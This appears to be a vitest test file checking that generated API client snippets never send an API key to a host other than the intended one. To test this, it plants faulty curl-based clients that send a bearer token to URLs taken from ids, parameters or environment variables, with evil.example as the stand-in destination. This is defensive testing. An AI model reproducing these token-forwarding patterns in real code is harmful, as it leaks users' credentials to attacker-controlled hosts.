// Clients that send a key to the wrong host are found. `npm run check hosts` runs all clients.
import { beforeAll, expect, test } from "vitest";
import {
  type Call,
  createHub,
  defineClient,
  type HttpRequest,
  type Hub,
  inferenceCall,
  loadPlugins,
  type Plugin,
  isAbsence,
} from "hubsmith";
import { env, type Hole, sh, text } from "hubsmith/code";
import type { Env } from "hubsmith/language";
import { entries } from "hubsmith/plugins";
import { prepareCases } from "./cases.ts";
import { HUB_IDS, IDS } from "./hostile.ts";
import { prove } from "./judge.ts";
import { HOSTS, ROUTER_HOST } from "./routes.ts";

let plugins: readonly Plugin[];
beforeAll(async () => {
  const loaded = await loadPlugins(entries.filter(({ kind }) => kind !== "library"));
  plugins = loaded.plugins as readonly Plugin[];
});

const kindOf = (plugin: Plugin): string => plugin["~hub"].kind;
const PROVIDERS = ["auto", "fal-ai", "hf-inference", "together"];

function hubOf(...clients: readonly Plugin[]): Hub {
  const few = plugins.filter(
    (plugin) =>
      kindOf(plugin) === "task" || (kindOf(plugin) === "provider" && PROVIDERS.includes(plugin.id)),
  );
  return createHub([...few, ...clients]);
}

test("every provider with a base URL has its host in the list", () => {
  const direct = plugins.filter((plugin) => "baseUrl" in plugin && plugin.baseUrl !== undefined);
  expect(direct.map(({ id }) => id).sort()).toEqual(Object.keys(HOSTS).sort());
});

test("no record can have a hostile id of a provider as its id on the Hub", () => {
  const hub = hubOf();
  for (const id of IDS.filter((candidate) => !HUB_IDS.includes(candidate))) {
    const call = inferenceCall(hub, {
      model: { id, tags: [] },
      provider: "auto",
    });
    expect(call, id).toMatchObject({ code: "bad-id" });
  }
});

/** A client that sends its key, or another one, to a custom URL, with curl. */
const sendsTo = (name: string, url: (call: Call) => Hole<"sh">, token?: Env): Plugin =>
  defineClient({
    id: `sh/${name}`,
    label: name,
    language: sh.language,
    order: 9,
    refuses: ({ request }) => (isAbsence(request) ? request : undefined),
    templates: [],
    fallback: (call) => {
      const key = text("Authorization: Bearer ", token ?? (call.token as Env | string));
      return sh`curl -gsS ${url(call)} -H ${key} -d '{}'`;
    },
  });

const ROUTER = `https://${ROUTER_HOST}`;
const PLANTED = [
  sendsTo("right", ({ request }) => (request as HttpRequest).url),
  sendsTo("id", ({ mapping }) => `${ROUTER}${mapping?.providerId ?? ""}`),
  sendsTo(
    "parameter",
    ({ parameters }) => (parameters["base_url"] as string | undefined) ?? ROUTER,
  ),
  sendsTo("variable", () => env("OPENAI_BASE_URL")),
  sendsTo("variable-alone", () => ROUTER, env("OPENAI_API_KEY")),
];

const ELSEWHERE = "It sent the secret of the hub to evil.example.";

test("a client that uses the URL and the key of its call has no fault, and others have", async () => {
  const tried =
    /^(id "@evil\.example"|parameter "base_url"|variable "OPENAI_BASE_URL"|variable-alone "OPENAI_API_KEY").*\| hub \|/;
  const prepared = prepareCases(hubOf(...PLANTED), false, [["together", "conversational"]]);
  expect(prepared.faults).toEqual([]);
  const cases = prepared.cases.filter(
    ({ client, program: { name } }) =>
      tried.test(name) && (client === "sh/right" || name.startsWith(client.slice(3))),
  );
  expect(cases).toHaveLength(9);
  const { faults } = await prove(cases, { jobs: 2, seconds: 60 });
  const found = faults.map(([name, lines]) => [name.split(" | ").at(-1)!, lines.join()]);
  expect(Object.fromEntries(found)).toEqual({
    "sh/id": expect.stringContaining(ELSEWHERE),
    "sh/parameter": expect.stringContaining(ELSEWHERE),
    "sh/variable": expect.stringContaining(ELSEWHERE),
    "sh/variable-alone": expect.stringContaining("It sent a secret of another service to"),
  });
});
